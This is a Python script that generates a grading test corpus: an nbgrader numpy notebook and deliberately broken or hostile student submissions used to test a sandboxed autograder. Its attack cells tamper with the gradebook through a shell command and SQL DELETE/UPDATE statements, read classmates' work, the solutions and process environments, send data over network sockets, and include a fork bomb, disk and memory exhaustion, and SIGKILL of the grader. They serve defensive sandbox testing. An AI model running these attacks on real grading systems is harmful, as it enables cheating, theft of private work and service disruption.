"""Build the grading corpus: a small numpy assignment and the broken and hostile submissions graded by
``tests/test_grading_classgrade.py`` (expected verdicts: ``tests/helpers/grading.py``).

    .venv/bin/python tests/grading_corpus/make_corpus.py

writes ``source/grading_demo/grading_demo.ipynb`` (the instructor's notebook, with solutions and hidden tests),
``submitted/<kind>/grading_demo/<file>`` (nbgrader's layout, one "student" per kind) and
``hostile/<kind>/grading_demo/<file>`` (the attacks on the sandbox, graded only inside it). Every submission
is derived from the release nbgrader generates, as a student's file would be. The expected verdicts live
in the test; ``README.md`` describes the kinds. The test checks that this script reproduces the committed
files, so edit the script, not the files.
"""

from __future__ import annotations

import io
import json
import re
import shutil
import sys
import tempfile
import zipfile
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ASSIGNMENT = "grading_demo"


def _code(cid: str, source: str, nbgrader: dict | None = None) -> dict:
    cell = nbformat.v4.new_code_cell(source.strip("\n"))
    cell.id = cid
    if nbgrader is not None:
        cell.metadata["nbgrader"] = {"schema_version": 3, "task": False, **nbgrader}
    return cell


def _markdown(cid: str, source: str) -> dict:
    cell = nbformat.v4.new_markdown_cell(source.strip("\n"))
    cell.id = cid
    return cell


def _answer(cid: str, gid: str, source: str) -> dict:
    return _code(cid, source, {"grade": False, "grade_id": gid, "locked": False, "solution": True})


def _test(cid: str, gid: str, points: int, source: str) -> dict:
    return _code(cid, source, {"grade": True, "grade_id": gid, "locked": True, "points": points, "solution": False})


def source_notebook() -> nbformat.NotebookNode:
    """The instructor's version: four answers, four graded test cells with hidden tests, and the self-check."""
    nb = nbformat.v4.new_notebook()
    nb.metadata = {"kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"},
                   "language_info": {"name": "python"}}
    nb.cells = [
        _markdown("intro", "# Grading demo\n\nFour small functions: ReLU, zero-centering, standardization, softmax."),
        _code("imports", "import numpy as np"),
        _markdown("relu-text", "## 1. ReLU\n\n$\\operatorname{relu}(x) = \\max(0, x)$, elementwise."),
        _answer("relu-answer", "relu", '''
def relu(x):
    """Elementwise max(0, x)."""
    ### BEGIN SOLUTION
    return np.maximum(x, 0.0)
    ### END SOLUTION
'''),
        _test("relu-test", "test_relu", 1, '''
assert np.array_equal(relu(np.array([-1.0, 0.0, 2.0])), [0.0, 0.0, 2.0]), "relu([-1, 0, 2]) should be [0, 0, 2]"
### BEGIN HIDDEN TESTS
hidden_relu_probe = np.linspace(-3.0, 3.0, 7)
assert np.array_equal(relu(hidden_relu_probe), np.clip(hidden_relu_probe, 0.0, None))
### END HIDDEN TESTS
'''),
        _markdown("center-text", "## 2. Zero-centering\n\n$\\tilde x_n = x_n - \\frac{1}{N}\\sum_m x_m$, per column."),
        _answer("center-answer", "zero_center", '''
def zero_center(x):
    """Subtract the mean of every column of an (N, D) array."""
    ### BEGIN SOLUTION
    return x - x.mean(axis=0)
    ### END SOLUTION
'''),
        _test("center-test", "test_zero_center", 1, '''
assert np.allclose(zero_center(np.array([[1.0], [2.0], [3.0]])), [[-1.0], [0.0], [1.0]]), \\
    "zero_center([[1], [2], [3]]) should be [[-1], [0], [1]]"
### BEGIN HIDDEN TESTS
hidden_center_probe = np.arange(12.0).reshape(4, 3) ** 2
assert np.allclose(zero_center(hidden_center_probe).mean(axis=0), 0.0)
### END HIDDEN TESTS
'''),
        _markdown("standardize-text", "## 3. Standardization\n\n$(x - \\mu) / \\sigma$ per column."),
        _answer("standardize-answer", "standardize", '''
def standardize(x):
    """Zero mean and unit (population) standard deviation for every column of an (N, D) array."""
    ### BEGIN SOLUTION
    return (x - x.mean(axis=0)) / x.std(axis=0)
    ### END SOLUTION
'''),
        _test("standardize-test", "test_standardize", 2, '''
z = standardize(np.array([[1.0, 10.0], [3.0, 30.0]]))
assert np.allclose(z, [[-1.0, -1.0], [1.0, 1.0]]), f"standardize gave {z.tolist()}, expected [[-1, -1], [1, 1]]"
### BEGIN HIDDEN TESTS
hidden_standardize_probe = np.array([[1.0, -2.0], [4.0, 0.5], [9.0, 3.0]])
assert np.allclose(standardize(hidden_standardize_probe).std(axis=0), 1.0)
### END HIDDEN TESTS
'''),
        _markdown("softmax-text", "## 4. Softmax\n\n$\\sigma(z)_i = e^{z_i} / \\sum_j e^{z_j}$ over the last axis."),
        _answer("softmax-answer", "softmax", '''
def softmax(z):
    """Softmax over the last axis, safe for large inputs."""
    ### BEGIN SOLUTION
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
    ### END SOLUTION
'''),
        _test("softmax-test", "test_softmax", 2, '''
assert np.allclose(softmax(np.array([0.0, np.log(3.0)])), [0.25, 0.75]), "softmax([0, log 3]) should be [0.25, 0.75]"
### BEGIN HIDDEN TESTS
hidden_softmax_probe = np.array([[1000.0, 1000.0], [0.0, -1000.0]])
assert np.allclose(softmax(hidden_softmax_probe), [[0.5, 0.5], [1.0, 0.0]])
### END HIDDEN TESTS
'''),
        _code("self-check", '''
# Self-check: runs this notebook in a fresh kernel and reports every graded cell (visible tests only).
from course_lib.grading import self_check

self_check("grading_demo.ipynb")
'''),
    ]
    return nb


def _answers(source: nbformat.NotebookNode) -> dict[str, str]:
    """What a student who solved everything would have typed: the solution without its markers."""
    out = {}
    for cell in source.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution"):
            out[gid] = "\n".join(ln for ln in cell.source.split("\n") if not re.search(r"### (BEGIN|END) SOLUTION", ln))
    return out


def _cell(nb, gid: str) -> dict:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


HOSTILE = '''
# Tries to reach outside its own folder: the course's gradebook and source (paths in
# $COURSE_CORPUS_TARGETS, as if the student knew them), its own unit's gradebook and source, the library
# the tests compare against, a sqlite connection, and a shell. Every attempt must be refused.
import json, os, pathlib, sqlite3, subprocess
import course_lib
targets = json.loads(os.environ.get("COURSE_CORPUS_TARGETS", "[]"))
targets += ["../../../gradebook.db", str(pathlib.Path(course_lib.__file__).parent / "grading" / "_tampered.txt")]
for target in targets:
    try:
        with open(target, "a") as fh:
            fh.write("tampered")
        print("wrote", target)
    except OSError as exc:
        print("refused:", type(exc).__name__)
for target in ["../../../source/grading_demo/grading_demo.ipynb"] + targets[:1]:
    try:
        print(open(target).read())
    except OSError as exc:
        print("refused:", type(exc).__name__)
try:
    sqlite3.connect(targets[0]).execute("DELETE FROM grade")
except Exception as exc:
    print("refused:", type(exc).__name__)
try:
    subprocess.run(["sh", "-c", "echo tampered >> " + targets[0]])
except OSError as exc:
    print("refused:", type(exc).__name__)
'''


def submissions(release: nbformat.NotebookNode, source: nbformat.NotebookNode) -> dict[str, tuple[str, bytes]]:
    """kind -> (file name, bytes): the corpus, one student per kind."""
    answers = _answers(source)

    def solved():
        nb = nbformat.from_dict(json.loads(nbformat.writes(release)))
        for gid, text in answers.items():
            _cell(nb, gid).source = text
        return nb

    def dump(nb) -> bytes:
        return (nbformat.writes(nb) + "\n").encode()

    wrong_relu = answers["relu"].replace("np.maximum(x, 0.0)", "np.abs(x)")
    naive_softmax = ('def softmax(z):\n    """Softmax over the last axis, safe for large inputs."""\n'
                     '    e = np.exp(z)\n    return e / e.sum(axis=-1, keepdims=True)')
    out: dict[str, tuple[str, bytes]] = {}
    name = f"{ASSIGNMENT}.ipynb"
    out["unmodified"] = (name, dump(release))
    out["correct"] = (name, dump(solved()))

    nb = solved()
    _cell(nb, "relu").source = wrong_relu
    _cell(nb, "softmax").source = naive_softmax
    out["wrong_answer"] = (name, dump(nb))

    nb = solved()
    _cell(nb, "standardize").source = "while True:\n    pass\n\n" + answers["standardize"]
    out["infinite_loop"] = (name, dump(nb))

    nb = solved()
    _cell(nb, "relu").source = ("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n"
                                "    time.sleep(0.5)\n\n" + answers["relu"])
    out["stuck_kernel"] = (name, dump(nb))

    nb = solved()
    _cell(nb, "zero_center").source = "scale = 1 / 0  # a slip left in while experimenting\n\n" + answers["zero_center"]
    out["exception"] = (name, dump(nb))

    nb = solved()
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "test_softmax"]
    out["deleted_grade_cell"] = (name, dump(nb))

    nb = solved()
    _cell(nb, "relu").source = wrong_relu
    _cell(nb, "test_relu").source = "assert True  # the test now always passes"
    out["edited_visible_test"] = (name, dump(nb))

    nb = solved()
    _cell(nb, "relu").source = wrong_relu
    test = _cell(nb, "test_relu")
    test.source = f"### BEGIN HIDDEN TESTS\n{test.source}\n### END HIDDEN TESTS"
    out["edited_hidden_region"] = (name, dump(nb))

    out["renamed"] = (f"{ASSIGNMENT}-final.ipynb", dump(solved()))
    text = dump(solved())
    out["invalid_json"] = (name, text[: len(text) // 2])
    out["empty_file"] = (name, b"")

    nb = solved()
    spam = _code("spam", 'print("x" * 2_000_000)\nfor i in range(100_000):\n    print("line", i)')
    nb.cells.insert(nb.cells.index(_cell(nb, "relu")) + 1, spam)
    out["huge_output"] = (name, dump(nb))

    nb = solved()
    _cell(nb, "standardize").source = "import os\nos._exit(1)\n\n" + answers["standardize"]
    out["kernel_killed"] = (name, dump(nb))

    nb = solved()
    nb.cells.insert(nb.cells.index(_cell(nb, "softmax")) + 1, _code("attack", HOSTILE))
    out["hostile_write"] = (name, dump(nb))

    nb = solved()
    _cell(nb, "softmax").source = "from numpy_softmax_helpers import softmax  # installed on my laptop only"
    out["missing_import"] = (name, dump(nb))

    nb = solved()
    for i, cell in enumerate(nb.cells):  # pasted into a fresh notebook: new ids, no nbgrader metadata
        cell.metadata = {}
        cell.id = f"pasted-{i}"
    out["stripped_metadata"] = (name, dump(nb))
    return out


# ---------------------------------------------------------------------------------------- the hostile class
# Each attack is one extra cell after the imports of an otherwise correct notebook. It learns where everything
# is from $COURSE_HOSTILE_TARGETS (a JSON object the test sets: the worst case, a student who knows the paths):
# "classmate" (a classmate's submitted notebook), "solutions" (the instructor's source notebook), "gradebook",
# "server" ([host, port] of a TCP server the test runs), "grader_pid" (the grading process).
_TARGETS = "import json, os\nT = json.loads(os.environ.get('COURSE_HOSTILE_TARGETS', '{}'))\n"
ATTACKS = {
    "reads_classmate": _TARGETS + """
classmate = T.get("classmate", "")
try:
    print(open(classmate).read())
except OSError as exc:
    print("refused:", type(exc).__name__)
try:
    print(os.listdir(os.path.dirname(os.path.dirname(classmate))))
except OSError as exc:
    print("refused:", type(exc).__name__)
""",
    "reads_solutions": _TARGETS + """
for path in [T.get("solutions", ""), "../../../source/grading_demo/grading_demo.ipynb", "/proc/1/environ"]:
    try:
        print(open(path).read())
    except OSError as exc:
        print("refused:", type(exc).__name__)
print(dict(os.environ))
""",
    "writes_gradebook": _TARGETS + """
import sqlite3
try:
    db = sqlite3.connect(T.get("gradebook", "gradebook.db"))
    db.execute("UPDATE grade SET manual_score = 100")
    db.commit()
    print("changed the gradebook")
except Exception as exc:
    print("refused:", type(exc).__name__, exc)
""",
    "network": _TARGETS + """
import socket
for address in [tuple(T.get("server", ("127.0.0.1", 9))), ("1.1.1.1", 53), ("example.com", 80)]:
    try:
        socket.create_connection(address, timeout=3).sendall(b"stolen answers")
        print("connected to", address)
    except OSError as exc:
        print("no connection:", type(exc).__name__)
""",
    "ctypes_read": _TARGETS + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for path in [T.get("classmate", ""), T.get("solutions", ""), T.get("gradebook", "")]:
    fd = libc.open(path.encode(), 0)
    if fd < 0:
        print("open failed, errno", ctypes.get_errno())
        continue
    buffer = ctypes.create_string_buffer(1 << 20)
    n = libc.read(fd, buffer, 1 << 20)
    print(buffer.raw[:max(n, 0)].decode("utf-8", "replace"))
""",
    "fork_bomb": """
import os, time
children = []
try:
    while len(children) < 100_000:
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
finally:
    print("forked", len(children), "children")
    for pid in children:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
""",
    "fills_disk": """
import os
chunk = b"x" * (1 << 20)
written = 0
try:
    for i in range(100_000):
        with open(f"filler-{i}.bin", "wb") as fh:
            for _ in range(8):
                fh.write(chunk)
                written += len(chunk)
finally:
    print("wrote", written >> 20, "MiB")
""",
    "eats_memory": """
import numpy as np
hoard = []
try:
    for _ in range(400):
        hoard.append(np.ones(100 * (1 << 20) // 8))  # 100 MiB, touched
finally:
    print("held", len(hoard) * 100, "MiB")
    del hoard
""",
    "kills_parent": _TARGETS + """
import signal
for pid in [os.getppid(), T.get("grader_pid", 0), 1]:
    try:
        os.kill(pid, signal.SIGKILL)
        print("sent SIGKILL to", pid)
    except OSError as exc:
        print("could not kill", pid, type(exc).__name__)
""",
    "sleeps_forever": """
import time
time.sleep(10 ** 9)
""",
    "prints_gigabyte": """
for i in range(100_000_000):
    print("0123456789")  # 11 bytes a line: 1.1 GB in all
""",
    "burns_cpu": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)  # the cell limit's interrupt cannot stop it: the CPU limit does
while True:
    pass
""",
}
CLASSMATE_SECRET = "classmate-private-7f3a91"


def hostile(release: nbformat.NotebookNode, source: nbformat.NotebookNode) -> dict[str, tuple[str, bytes]]:
    """kind -> (file name, bytes): one correct notebook per attack, plus the classmate it targets and a bystander."""
    answers = _answers(source)

    def solved():
        nb = nbformat.from_dict(json.loads(nbformat.writes(release)))
        for gid, text in answers.items():
            _cell(nb, gid).source = text
        return nb

    def dump(nb) -> bytes:
        return (nbformat.writes(nb) + "\n").encode()

    name = f"{ASSIGNMENT}.ipynb"
    out = {}
    nb = solved()
    _cell(nb, "relu").source = f"# {CLASSMATE_SECRET}: my own work, do not copy\n" + answers["relu"]
    out["classmate"] = (name, dump(nb))
    out["bystander"] = (name, dump(solved()))
    for kind, attack in ATTACKS.items():
        nb = solved()
        nb.cells.insert(nb.cells.index(_cell(nb, "relu")), _code(f"attack-{kind.replace('_', '-')}", attack.strip("\n")))
        out[kind] = (name, dump(nb))
    return out


def build(dest: Path = HERE, template: bytes | None = None) -> dict[str, tuple[str, bytes]]:
    """Write the source notebook and every submission under ``dest``; return the submissions.

    ``template`` is ``course_lib.grading.classgrade.build_template``'s output for this source, if at hand.
    """
    from course_lib.grading.classgrade import build_template

    src_dir = dest / "source" / ASSIGNMENT
    src_dir.mkdir(parents=True, exist_ok=True)
    source = source_notebook()
    (src_dir / f"{ASSIGNMENT}.ipynb").write_text(nbformat.writes(source) + "\n")
    if template is None:
        with tempfile.TemporaryDirectory() as tmp:
            template = build_template(dest / "source", ASSIGNMENT, Path(tmp))
    with zipfile.ZipFile(io.BytesIO(template)) as zf:
        release = nbformat.reads(zf.read(f"release/{ASSIGNMENT}/{ASSIGNMENT}.ipynb").decode(), as_version=4)
    corpus = submissions(release, source)
    for where, kinds in (("submitted", corpus), ("hostile", hostile(release, source))):
        shutil.rmtree(dest / where, ignore_errors=True)
        for kind, (filename, data) in kinds.items():
            folder = dest / where / kind / ASSIGNMENT
            folder.mkdir(parents=True)
            (folder / filename).write_bytes(data)
        if where == "hostile":
            corpus.update({f"hostile/{k}": v for k, v in kinds.items()})
    return corpus


if __name__ == "__main__":
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    built = build(out)
    print(f"{len(built)} submissions under {out / 'submitted'}: {', '.join(built)}")
